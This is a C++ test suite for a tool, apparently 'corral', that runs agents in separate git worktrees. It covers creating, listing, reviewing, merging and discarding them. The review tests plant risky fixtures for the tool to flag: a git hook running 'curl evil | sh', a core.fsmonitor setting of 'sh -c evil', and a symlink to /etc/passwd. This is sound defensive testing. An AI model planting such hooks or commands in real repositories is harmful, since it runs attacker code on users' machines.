// The worktree workflow on real repositories, made here with the git CLI.
#include "worktree.h"

#include <gtest/gtest.h>
#include <pwd.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <sstream>

namespace corral {
namespace {

namespace fs = std::filesystem;

// The test's own commands (not the code under test) go through a shell.
// safe.directory: the repositories of the uid-drop test belong to nobody.
std::string sh(const std::string& cmd, int* status = nullptr) {
  FILE* p = ::popen((cmd + " 2>&1").c_str(), "r");
  std::string out;
  char buf[4096];
  size_t n;
  while ((n = fread(buf, 1, sizeof(buf), p)) > 0) out.append(buf, n);
  int st = ::pclose(p);
  if (status)
    *status = WEXITSTATUS(st);
  else
    EXPECT_EQ(WEXITSTATUS(st), 0) << cmd << ":\n" << out;
  while (!out.empty() && out.back() == '\n') out.pop_back();
  return out;
}

std::string git(const std::string& dir, const std::string& args, int* status = nullptr) {
  return sh("git -c safe.directory='*' -C '" + dir + "' " + args, status);
}

void write(const fs::path& path, const std::string& text) {
  fs::create_directories(path.parent_path());
  std::ofstream(path) << text;
}

std::string read(const fs::path& path) {
  std::ifstream in(path);
  std::stringstream s;
  s << in.rdbuf();
  return s.str();
}

Credentials me() {
  Credentials c;
  c.uid = ::geteuid();
  c.gid = ::getegid();
  if (passwd* pw = ::getpwuid(c.uid)) {
    c.name = pw->pw_name;
    c.home = pw->pw_dir;
  }
  return c;
}

class WorktreeTest : public ::testing::Test {
 protected:
  void SetUp() override {
    char tmpl[] = "/tmp/corral-worktree-test-XXXXXX";
    ASSERT_NE(::mkdtemp(tmpl), nullptr);
    tmp_ = tmpl;
    repo_ = tmp_ + "/repo";
    root_ = tmp_ + "/worktrees";
    fs::create_directories(repo_);
    git(repo_, "init -q -b main");
    git(repo_, "config user.name 'Test User'");
    git(repo_, "config user.email test@example.com");
    write(repo_ + "/a.txt", "one\n");
    write(repo_ + "/tests/foo_test.py", "def test_foo(): pass\n");
    write(repo_ + "/.github/workflows/ci.yml", "on: push\n");
    git(repo_, "add -A");
    git(repo_, "commit -qm first");
    first_ = git(repo_, "rev-parse HEAD");
    write(repo_ + "/b.txt", "two\n");
    git(repo_, "add -A");
    git(repo_, "commit -qm second");
  }
  void TearDown() override { fs::remove_all(tmp_); }

  Worktree prepare(const std::string& name, const std::string& base = "") {
    return prepare_worktree(repo_, name, base, as_, root_);
  }
  std::string worktrees() {
    std::ostringstream out, err;
    EXPECT_EQ(worktrees_main({repo_, as_}, out, err), 0) << err.str();
    return out.str();
  }
  std::pair<int, std::string> review(const std::string& name) {
    ReviewOptions o;
    o.repo_dir = repo_;
    o.as = as_;
    o.name = name;
    std::ostringstream out, err;
    int code = review_main(o, out, err);
    return {code, out.str() + err.str()};
  }
  std::pair<int, std::string> merge(const std::string& name) {
    std::ostringstream out, err;
    int code = merge_main({repo_, as_, name}, out, err);
    return {code, out.str() + err.str()};
  }
  std::pair<int, std::string> discard(const std::string& name) {
    std::ostringstream out, err;
    int code = discard_main({repo_, as_, name}, out, err);
    return {code, out.str() + err.str()};
  }
  // A commit in the worktree.
  void commit(const Worktree& wt, const std::string& file, const std::string& text) {
    write(wt.path + "/" + file, text);
    git(wt.path, "add -A");
    git(wt.path, "commit -qm '" + file + "'");
  }
  // What must not move when a merge is refused.
  std::string checkout_state() {
    return git(repo_, "rev-parse HEAD") + "|" + git(repo_, "status --porcelain") + "|" +
           read(repo_ + "/a.txt");
  }

  std::string tmp_, repo_, root_, first_;
  Credentials as_ = me();
};

TEST_F(WorktreeTest, CreatesOutsideTheCheckoutAndResumes) {
  Worktree wt = prepare("fix-login");
  EXPECT_FALSE(wt.resumed);
  EXPECT_EQ(wt.branch, "corral/fix-login");
  EXPECT_EQ(wt.origin_branch, "main");
  EXPECT_EQ(wt.base_ref, "main");
  EXPECT_EQ(wt.base_commit, git(repo_, "rev-parse HEAD"));
  EXPECT_EQ(wt.repo, fs::canonical(repo_).string());
  EXPECT_TRUE(wt.path.starts_with(root_ + "/repo-")) << wt.path;
  EXPECT_TRUE(wt.path.ends_with("/fix-login")) << wt.path;
  EXPECT_FALSE(wt.path.starts_with(repo_ + "/"));
  EXPECT_EQ(read(wt.path + "/b.txt"), "two\n");
  EXPECT_EQ(git(wt.path, "symbolic-ref --short HEAD"), "corral/fix-login");
  EXPECT_EQ(git(repo_, "status --porcelain"), "");  // the user's checkout: untouched

  commit(wt, "work.txt", "done\n");
  write(wt.path + "/scratch.txt", "not committed\n");
  std::string head = git(wt.path, "rev-parse HEAD");
  Worktree again = prepare("fix-login");
  EXPECT_TRUE(again.resumed);
  EXPECT_EQ(again.path, wt.path);
  EXPECT_EQ(again.base_commit, wt.base_commit);
  EXPECT_EQ(git(wt.path, "rev-parse HEAD"), head);
  EXPECT_EQ(read(wt.path + "/scratch.txt"), "not committed\n");
  EXPECT_EQ(prepare("fix-login", "main").path, wt.path);  // the same --base is fine
}

TEST_F(WorktreeTest, BadNamesAreRejectedWithTheReason) {
  const std::pair<std::string, std::string> bad[] = {{"", "empty"},
                                                     {"-x", "starts with '-'"},
                                                     {".x", "starts with '.'"},
                                                     {"a..b", "'..'"},
                                                     {"a/b", "'/'"},
                                                     {"x.lock", "'.lock'"},
                                                     {"a b", "' '"},
                                                     {"x.", "ends with '.'"},
                                                     {std::string(65, 'a'), "at most 64"},
                                                     {"caf\xc3\xa9", "not allowed"}};
  for (const auto& [name, why] : bad) {
    try {
      prepare(name);
      ADD_FAILURE() << "accepted '" << name << "'";
    } catch (const std::invalid_argument& e) {
      EXPECT_NE(std::string(e.what()).find(why), std::string::npos) << e.what();
    }
  }
  EXPECT_NO_THROW(validate_worktree_name("Fix_login-2.0"));
  EXPECT_NO_THROW(validate_worktree_name(std::string(64, 'a')));
  EXPECT_FALSE(fs::exists(root_));
}

TEST_F(WorktreeTest, NotARepository) {
  std::string plain = tmp_ + "/plain";
  fs::create_directories(plain);
  try {
    prepare_worktree(plain, "x", "", as_, root_);
    ADD_FAILURE() << "no error";
  } catch (const std::runtime_error& e) {
    EXPECT_EQ(std::string(e.what()), "not a git repository: " + plain + " (--worktree needs one)");
  }
  std::ostringstream out, err;
  EXPECT_EQ(worktrees_main({plain, as_}, out, err), 1);
  EXPECT_EQ(err.str(), "corral: error: not a git repository: " + plain + "\n");
}

TEST_F(WorktreeTest, BaseOfAnotherBranchOrCommit) {
  git(repo_, "branch other " + first_);
  git(repo_, "switch -q other");
  write(repo_ + "/other.txt", "other\n");
  git(repo_, "add -A");
  git(repo_, "commit -qm other");
  git(repo_, "switch -q main");

  Worktree b = prepare("b", "other");
  EXPECT_EQ(b.base_ref, "other");
  EXPECT_EQ(b.origin_branch, "main");
  EXPECT_EQ(read(b.path + "/other.txt"), "other\n");
  EXPECT_FALSE(fs::exists(b.path + "/b.txt"));

  Worktree c = prepare("c", first_);
  EXPECT_EQ(c.base_commit, first_);
  EXPECT_FALSE(fs::exists(c.path + "/b.txt"));
  EXPECT_TRUE(fs::exists(c.path + "/a.txt"));

  try {
    prepare("d", "nope");
    ADD_FAILURE() << "no error";
  } catch (const std::runtime_error& e) {
    EXPECT_EQ(std::string(e.what()),
              "--base nope: no such commit in " + fs::canonical(repo_).string());
  }
  EXPECT_EQ(git(repo_, "branch --list corral/d"), "");  // nothing left behind

  try {
    prepare("b", "main");
    ADD_FAILURE() << "resumed with another base";
  } catch (const std::runtime_error& e) {
    EXPECT_NE(std::string(e.what()).find("worktree b exists, started from other"),
              std::string::npos)
        << e.what();
  }
  EXPECT_TRUE(prepare("b", "other").resumed);
}

TEST_F(WorktreeTest, ExistingBranchOrDirectoryIsNotTakenOver) {
  git(repo_, "branch corral/taken");
  EXPECT_THROW(
      {
        try {
          prepare("taken");
        } catch (const std::runtime_error& e) {
          EXPECT_NE(std::string(e.what()).find("branch corral/taken exists"), std::string::npos);
          throw;
        }
      },
      std::runtime_error);
  Worktree wt = prepare("first");
  fs::path squatter = fs::path(wt.path).parent_path() / "squat";
  write(squatter / "mine.txt", "keep\n");
  EXPECT_THROW(prepare("squat"), std::runtime_error);
  EXPECT_EQ(read(squatter / "mine.txt"), "keep\n");
  EXPECT_EQ(git(repo_, "branch --list corral/squat"), "");
}

TEST_F(WorktreeTest, AgentStartsWhereTheUserWas) {
  Worktree wt = prepare("here");
  fs::create_directories(repo_ + "/untracked-dir");
  EXPECT_EQ(worktree_cwd(wt, repo_), wt.path);
  EXPECT_EQ(worktree_cwd(wt, repo_ + "/tests"), wt.path + "/tests");
  EXPECT_EQ(worktree_cwd(wt, repo_ + "/untracked-dir"), wt.path);
  EXPECT_EQ(worktree_cwd(wt, tmp_), wt.path);
}

TEST_F(WorktreeTest, DeletedDirectoryIsCheckedOutAgain) {
  Worktree wt = prepare("gone");
  commit(wt, "kept.txt", "kept\n");
  fs::remove_all(wt.path);
  Worktree again = prepare("gone");
  EXPECT_TRUE(again.resumed);
  EXPECT_EQ(read(wt.path + "/kept.txt"), "kept\n");
}

TEST_F(WorktreeTest, ListShowsChangesAndAge) {
  Worktree busy = prepare("busy");
  prepare("idle");
  Worktree lost = prepare("lost");
  commit(busy, "one.txt", "1\n");
  commit(busy, "two.txt", "2\n");
  write(busy.path + "/untracked.txt", "?\n");
  fs::remove_all(lost.path);

  auto list = list_worktrees(repo_, as_);
  ASSERT_EQ(list.size(), 3u);
  EXPECT_EQ(list[0].name, "busy");
  EXPECT_EQ(list[1].name, "idle");
  WorktreeStatus s = worktree_status(list[0], as_);
  EXPECT_EQ(s.commits, 2u);
  EXPECT_EQ(s.changed_files, 1u);
  EXPECT_EQ(describe(s), "2 commits, dirty");
  EXPECT_EQ(describe(worktree_status(list[1], as_)), "no changes");
  EXPECT_EQ(describe(worktree_status(list[2], as_)), "missing");

  std::string out = worktrees();
  EXPECT_TRUE(out.starts_with("NAME ")) << out;
  EXPECT_NE(out.find("\nbusy  corral/busy  main ("), std::string::npos) << out;
  EXPECT_NE(out.find("2 commits, dirty"), std::string::npos) << out;
  EXPECT_NE(out.find(busy.path), std::string::npos) << out;
  EXPECT_NE(out.find(" 0s "), std::string::npos) << out;
}

TEST(WorktreeFormat, AgeAndDefaultRoot) {
  auto t0 = std::chrono::system_clock::time_point(std::chrono::seconds(1'700'000'000));
  using std::chrono::seconds;
  EXPECT_EQ(format_age(t0, t0 + seconds(45)), "45s");
  EXPECT_EQ(format_age(t0, t0 + seconds(12 * 60 + 5)), "12m");
  EXPECT_EQ(format_age(t0, t0 + seconds(3 * 3600 + 59)), "3h");
  EXPECT_EQ(format_age(t0, t0 + seconds(5 * 86400)), "5d");
  EXPECT_EQ(format_age(t0, t0 - seconds(5)), "0s");
  Credentials other;
  other.uid = ::geteuid() + 1;
  other.home = "/home/someone";
  EXPECT_EQ(default_worktrees_root(other), "/home/someone/.local/share/corral/worktrees");
}

TEST_F(WorktreeTest, ReviewShowsStatDiffAndEachRisk) {
  Worktree wt = prepare("risky");
  fs::remove(wt.path + "/tests/foo_test.py");
  write(wt.path + "/a.txt", "one\nchanged\n");
  write(wt.path + "/scripts/run.sh", "#!/bin/sh\necho hi\n");
  fs::permissions(wt.path + "/scripts/run.sh", fs::perms::owner_exec, fs::perm_options::add);
  write(wt.path + "/.github/workflows/ci.yml", "on: [push, pull_request]\n");
  write(wt.path + "/reports/junit.xml", "<testsuite failures=\"0\"/>\n");
  fs::create_directories(wt.path + "/docs");
  fs::create_symlink("../../../etc/passwd", wt.path + "/docs/passwd.txt");
  fs::create_symlink("../a.txt", wt.path + "/docs/a-link.txt");
  std::string blob(2 << 20, '\0');
  for (size_t i = 0; i < blob.size(); i += 7) blob[i] = static_cast<char>(i);
  write(wt.path + "/model.bin", blob);
  write(wt.path + "/small.bin", std::string("\0\1\2", 3));
  git(wt.path, "add -A");
  git(wt.path, "commit -qm agent");
  write(wt.path + "/b.txt", "two\nuncommitted\n");  // not committed
  write(wt.path + "/new.txt", "untracked\n");       // not even added
  write(repo_ + "/.git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n");

  auto [code, out] = review("risky");
  ASSERT_EQ(code, 0) << out;
  for (const char* line :
       {"RISK protected path: .git/hooks/pre-commit (changed since the worktree was created)\n",
        "RISK protected path: .github/workflows/ci.yml (modified)\n",
        "RISK deleted test: tests/foo_test.py\n", "RISK new executable: scripts/run.sh\n",
        "RISK test report: reports/junit.xml (added)\n",
        "RISK symlink outside the repo: docs/passwd.txt -> ../../../etc/passwd\n",
        "RISK large binary: model.bin (2.0 MiB)\n"})
    EXPECT_NE(out.find(line), std::string::npos) << line << "\nin:\n" << out;
  EXPECT_EQ(out.find("RISK", out.find("\n\n")), std::string::npos) << "risks after the heading";
  EXPECT_EQ(out.find("a-link.txt ->"), std::string::npos);
  EXPECT_EQ(out.find("small.bin ("), std::string::npos);
  EXPECT_TRUE(out.starts_with("worktree risky (corral/risky at " + wt.path +
                              "): 1 commit and uncommitted changes, against "))
      << out;
  EXPECT_NE(out.find(" a.txt "), std::string::npos);  // the stat
  EXPECT_NE(out.find("files changed"), std::string::npos);
  EXPECT_NE(out.find("create mode 100755 scripts/run.sh"), std::string::npos);  // the summary
  EXPECT_NE(out.find("+uncommitted"), std::string::npos);  // uncommitted, in the diff
  EXPECT_NE(out.find("diff --git a/new.txt b/new.txt"), std::string::npos);  // untracked too
  EXPECT_NE(out.find("-def test_foo(): pass"), std::string::npos);
  EXPECT_LT(out.find("RISK"), out.find("diff --git"));
  // The agent's index is as it was: new.txt is still untracked there.
  EXPECT_EQ(git(wt.path, "status --porcelain"), " M b.txt\n?? new.txt");
}

TEST_F(WorktreeTest, ReviewFlagsARemovedHookAndAChangedConfig) {
  prepare("hooks");
  fs::remove(repo_ + "/.git/hooks/pre-push.sample");
  git(repo_, "config core.fsmonitor 'sh -c evil'");
  auto [code, out] = review("hooks");
  ASSERT_EQ(code, 0) << out;
  EXPECT_NE(out.find("\nRISK protected path: .git/hooks (files removed or renamed since the "
                     "worktree was created)\n"),
            std::string::npos)
      << out;
  EXPECT_NE(out.find("\nRISK protected path: .git/config (changed since the worktree was "
                     "created)\n"),
            std::string::npos)
      << out;
}

TEST_F(WorktreeTest, ReviewOfAnUntouchedWorktreeFlagsNothing) {
  Worktree wt = prepare("quiet");
  auto [code, out] = review("quiet");
  EXPECT_EQ(code, 0);
  EXPECT_EQ(out, "worktree quiet (corral/quiet at " + wt.path + "): no changes, against " +
                     wt.base_commit.substr(0, 7) +
                     " (main, where it started)\nno risky changes found\n\nno differences\n");
}

TEST_F(WorktreeTest, ReviewDiffsFromWhereItMeetsTheOriginBranch) {
  Worktree wt = prepare("later");
  commit(wt, "agent.txt", "agent\n");
  write(repo_ + "/user.txt", "user\n");  // the user moves on
  git(repo_, "add -A");
  git(repo_, "commit -qm user");
  git(wt.path, "merge -q --no-edit main");  // and the agent takes it in
  auto [code, out] = review("later");
  ASSERT_EQ(code, 0) << out;
  EXPECT_NE(out.find("where it meets main now"), std::string::npos) << out;
  EXPECT_NE(out.find("agent.txt"), std::string::npos);
  EXPECT_EQ(out.find("user.txt"), std::string::npos) << out;
}

TEST_F(WorktreeTest, MergeBringsTheBranchIntoTheOriginBranch) {
  Worktree wt = prepare("feature");
  commit(wt, "feature.txt", "feature\n");
  auto [code, out] = merge("feature");
  ASSERT_EQ(code, 0) << out;
  EXPECT_TRUE(out.starts_with("merged corral/feature into main in " + wt.repo)) << out;
  EXPECT_EQ(read(repo_ + "/feature.txt"), "feature\n");
  EXPECT_EQ(git(repo_, "symbolic-ref --short HEAD"), "main");
  EXPECT_EQ(git(repo_, "log -1 --format=%s%n%P"),
            "corral: merge feature\n" + wt.base_commit + " " + git(wt.path, "rev-parse HEAD"));
  EXPECT_EQ(git(repo_, "status --porcelain"), "");

  auto [again, why] = merge("feature");
  EXPECT_EQ(again, 1);
  EXPECT_NE(why.find("corral/feature has nothing to merge: main already has all its commits"),
            std::string::npos)
      << why;
}

TEST_F(WorktreeTest, MergeRefusesADirtyCheckout) {
  Worktree wt = prepare("feature");
  commit(wt, "feature.txt", "feature\n");
  write(repo_ + "/a.txt", "user's own edit\n");
  std::string before = checkout_state();
  auto [code, out] = merge("feature");
  EXPECT_EQ(code, 1);
  EXPECT_EQ(out, "corral: error: " + wt.repo +
                     " has uncommitted changes (a.txt); commit or stash them first\n");
  EXPECT_EQ(checkout_state(), before);
  EXPECT_FALSE(fs::exists(repo_ + "/feature.txt"));
}

TEST_F(WorktreeTest, MergeRefusesACheckoutOnAnotherBranch) {
  Worktree wt = prepare("feature");
  commit(wt, "feature.txt", "feature\n");
  git(repo_, "switch -q -c elsewhere");
  auto [code, out] = merge("feature");
  EXPECT_EQ(code, 1);
  EXPECT_NE(out.find(wt.repo + " is on elsewhere, not main, the branch worktree feature was "
                               "started from; switch to main first"),
            std::string::npos)
      << out;
  EXPECT_FALSE(fs::exists(repo_ + "/feature.txt"));
}

TEST_F(WorktreeTest, MergeRefusesUncommittedWorkInTheWorktree) {
  Worktree wt = prepare("feature");
  commit(wt, "feature.txt", "feature\n");
  write(wt.path + "/forgot.txt", "?\n");
  std::string before = checkout_state();
  auto [code, out] = merge("feature");
  EXPECT_EQ(code, 1);
  EXPECT_NE(out.find("worktree feature has uncommitted changes (forgot.txt); corral review "
                     "feature shows them"),
            std::string::npos)
      << out;
  EXPECT_EQ(checkout_state(), before);
}

TEST_F(WorktreeTest, MergeConflictIsAbortedAndLeavesTheCheckoutAsItWas) {
  Worktree wt = prepare("clash");
  commit(wt, "a.txt", "agent's line\n");
  write(repo_ + "/a.txt", "user's line\n");
  git(repo_, "commit -qam user");
  std::string before = checkout_state();
  auto [code, out] = merge("clash");
  EXPECT_EQ(code, 1);
  EXPECT_NE(out.find("merging corral/clash into main conflicts in a.txt; aborted, " + wt.repo +
                     " is as it was"),
            std::string::npos)
      << out;
  EXPECT_EQ(checkout_state(), before);
  EXPECT_EQ(git(repo_, "status --porcelain"), "");
  int status = 0;
  git(repo_, "rev-parse -q --verify MERGE_HEAD", &status);
  EXPECT_NE(status, 0);
}

TEST_F(WorktreeTest, MergeRefusedByGitSaysWhyAndChangesNothing) {
  Worktree wt = prepare("feature");
  commit(wt, "feature.txt", "feature\n");
  write(repo_ + "/feature.txt", "the user's untracked file\n");
  std::string before = checkout_state();
  auto [code, out] = merge("feature");
  EXPECT_EQ(code, 1);
  EXPECT_NE(out.find("git merge failed in " + wt.repo +
                     ": error: The following untracked working tree files would be overwritten"),
            std::string::npos)
      << out;
  EXPECT_EQ(checkout_state(), before);
  EXPECT_EQ(read(repo_ + "/feature.txt"), "the user's untracked file\n");
}

TEST_F(WorktreeTest, DiscardRemovesDirectoryBranchAndMetadata) {
  Worktree wt = prepare("trash");
  commit(wt, "junk.txt", "junk\n");
  write(wt.path + "/untracked.txt", "?\n");
  std::string tip = git(wt.path, "rev-parse HEAD");
  auto [code, out] = discard("trash");
  ASSERT_EQ(code, 0) << out;
  EXPECT_EQ(out, "discarded trash: removed " + wt.path + " and corral/trash (it was at " +
                     tip.substr(0, 7) + ": git branch corral/trash " + tip +
                     " brings it back until git gc)\n");
  EXPECT_FALSE(fs::exists(wt.path));
  EXPECT_EQ(git(repo_, "branch --list corral/trash"), "");
  EXPECT_TRUE(list_worktrees(repo_, as_).empty());
  EXPECT_EQ(worktrees(),
            "no corral worktrees here (corral run --worktree NAME -- CMD starts one)\n");
  EXPECT_FALSE(prepare("trash").resumed);  // the name is free again
}

TEST_F(WorktreeTest, UnknownNamesAreRefused) {
  auto [code, out] = discard("nothing");
  EXPECT_EQ(code, 1);
  EXPECT_EQ(out, "corral: error: no corral worktree named 'nothing' in " +
                     fs::canonical(repo_).string() + " (corral worktrees lists them)\n");
  EXPECT_EQ(review("nothing").first, 1);
  EXPECT_EQ(merge("nothing").first, 1);
}

TEST_F(WorktreeTest, TwoWorktreesSideBySide) {
  Worktree a = prepare("a");
  Worktree b = prepare("b");
  EXPECT_NE(a.path, b.path);
  EXPECT_EQ(fs::path(a.path).parent_path(), fs::path(b.path).parent_path());
  // Made from inside a worktree: the same repository, the same folder.
  Worktree c = prepare_worktree(a.path + "/tests", "c", "", as_, root_);
  EXPECT_EQ(fs::path(c.path).parent_path(), fs::path(a.path).parent_path());
  EXPECT_EQ(c.origin_branch, "corral/a");
  EXPECT_EQ(discard("c").first, 0);
  commit(a, "from-a.txt", "a\n");
  commit(b, "from-b.txt", "b\n");
  EXPECT_FALSE(fs::exists(a.path + "/from-b.txt"));
  EXPECT_FALSE(fs::exists(b.path + "/from-a.txt"));
  auto [code, out] = review("a");
  EXPECT_EQ(code, 0);
  EXPECT_NE(out.find("from-a.txt"), std::string::npos);
  EXPECT_EQ(out.find("from-b.txt"), std::string::npos);
  EXPECT_EQ(merge("a").first, 0);
  EXPECT_EQ(merge("b").first, 0);
  EXPECT_TRUE(fs::exists(repo_ + "/from-a.txt"));
  EXPECT_TRUE(fs::exists(repo_ + "/from-b.txt"));
  EXPECT_EQ(discard("a").first, 0);
  EXPECT_TRUE(fs::exists(b.path + "/from-b.txt"));
  EXPECT_EQ(list_worktrees(repo_, as_).size(), 1u);
}

// corral runs as root under sudo; what it makes in the user's repository
// must be the user's.
TEST_F(WorktreeTest, GitRunsAsTheUserWhenRoot) {
  if (::geteuid() != 0) {
    if (const char* ci = std::getenv("CI"); ci && std::string(ci) == "true")
      FAIL() << "CI must run this test as root";
    GTEST_SKIP() << "needs root to switch users";
  }
  Credentials nobody;
  nobody.uid = 65534;
  nobody.gid = 65534;
  nobody.name = "nobody";
  nobody.home = "/nonexistent";
  sh("chown -R 65534:65534 '" + tmp_ + "'");
  as_ = nobody;

  Worktree wt = prepare("owned");
  struct stat st;
  for (const std::string& p :
       {wt.path, wt.path + "/a.txt", wt.path + "/.git", fs::path(wt.path).parent_path().string(),
        repo_ + "/.git/corral-worktrees", repo_ + "/.git/refs/heads/corral/owned"}) {
    ASSERT_EQ(::lstat(p.c_str(), &st), 0) << p;
    EXPECT_EQ(st.st_uid, 65534u) << p;
  }
  commit(wt, "work.txt", "work\n");
  sh("chown -R 65534:65534 '" + tmp_ + "'");  // the test's own commit ran as root
  EXPECT_EQ(review("owned").first, 0);
  auto [code, out] = merge("owned");
  ASSERT_EQ(code, 0) << out;
  ASSERT_EQ(::lstat((repo_ + "/work.txt").c_str(), &st), 0);
  EXPECT_EQ(st.st_uid, 65534u);
  EXPECT_EQ(discard("owned").first, 0);
}

}  // namespace
}  // namespace corral
